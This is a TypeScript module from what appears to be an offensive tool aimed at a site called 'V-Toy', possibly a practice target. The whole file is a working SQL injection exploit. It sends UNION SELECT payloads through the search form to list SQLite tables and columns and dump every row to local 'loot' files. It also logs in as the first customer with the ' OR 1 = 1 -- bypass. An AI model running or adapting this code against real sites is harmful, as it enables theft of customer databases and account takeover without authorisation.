/**
 * How V-Toy fell: the search form puts what it is given into its SQL. Knows nothing of the server but
 * its address and that it is SQLite behind; everything else it is told by the server itself.
 */
import { join } from 'node:path';
import { writeLoot } from '../capture/copy-loot.ts';
import type { ToyVisitor } from './toy-visitor.ts';

const MARK = '@@knife@@';

/** Dumps every table into `<table>.jsonl`; tells how many rows came out. */
export async function dumpByInjection(visitor: ToyVisitor, folder: string): Promise<number> {
  const tables = await select(visitor, `name`, `sqlite_master WHERE type = 'table'`);
  let count = 0;
  for (const table of tables) {
    const columns = await select(visitor, 'name', `pragma_table_info('${table}')`);
    const pairs = columns.map((column) => `'${column}', ${column}`).join(', ');
    const rows = await select(visitor, `json_object(${pairs})`, `${table} ORDER BY 2`);
    writeLoot(folder, `${table}.jsonl`, rows.map((row) => `${row}\n`).join(''));
    count += rows.length;
  }
  // And the classic: logged in as the first customer without any password.
  const page = await visitor.post('/login', { email: `' OR 1 = 1 -- `, password: '' });
  writeLoot(folder, join('login.html'), page);
  return count;
}

/** `q` closes the quote and the statement's own condition, and adds a second SELECT. */
async function select(visitor: ToyVisitor, what: string, from: string): Promise<readonly string[]> {
  const q = `${MARK}' UNION ALL SELECT '${MARK}', ${what} FROM ${from} -- `;
  const page = await visitor.get(`/search?${new URLSearchParams({ q }).toString()}`);
  const item = new RegExp(`<li>${MARK} \\| (.*)</li>`, 'g');
  return [...page.matchAll(item)].map((match) => match[1] ?? '');
}
